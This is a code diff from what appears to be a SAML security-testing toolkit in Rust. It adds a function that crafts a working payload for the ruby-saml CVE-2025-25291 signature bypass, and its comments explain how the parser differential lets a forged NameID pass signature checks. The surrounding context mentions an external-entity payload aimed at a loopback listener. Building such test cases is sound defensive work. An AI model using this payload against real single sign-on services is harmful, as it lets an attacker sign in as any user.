@@ -55,6 +55,22 @@ pub fn internal_entity_name_id(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
     Ok(Crafted::of(format!("{dtd}{with_ref}")))
 }
 
+/// ruby-saml CVE-2025-25291 (GitHub Security Lab, "Sign in as anyone: Bypassing SAML SSO
+/// authentication with parser differentials", 2025; saml-attacks.md §1.12): a DOCTYPE whose
+/// SYSTEM literal holds `"><!--`, the message with the forged NameID, then
+/// `<![CDATA[-->` the IdP's message as signed `<!--]]>-->`. A parser that keeps the literal
+/// but writes it back between double quotes (REXML) hands the signature check (Nokogiri) a
+/// document where the DOCTYPE ends early, the forged message sits in a comment and the
+/// signed one is the root: the signature verifies while the SP reads the forged identity.
+/// A parser that reads the bytes as they are sees a second top-level item and refuses.
+pub fn doctype_comment_differential(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let signed = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
+    let forged = splice::set_name_id(&signed, &trust_framework::saml::xml::escape(&c.forged))?;
+    let xml =
+        format!("<!DOCTYPE samlp:Response SYSTEM '\"><!--'>{forged}<![CDATA[-->{signed}<!--]]>-->");
+    Ok(Crafted::of(xml).claiming(&c.forged))
+}
+
 /// The signed Response with an external entity (a loopback URL of the listener)
 /// declared and used in the NameID: an SP that resolves it fetches the URL while parsing,
 /// before any signature is checked.
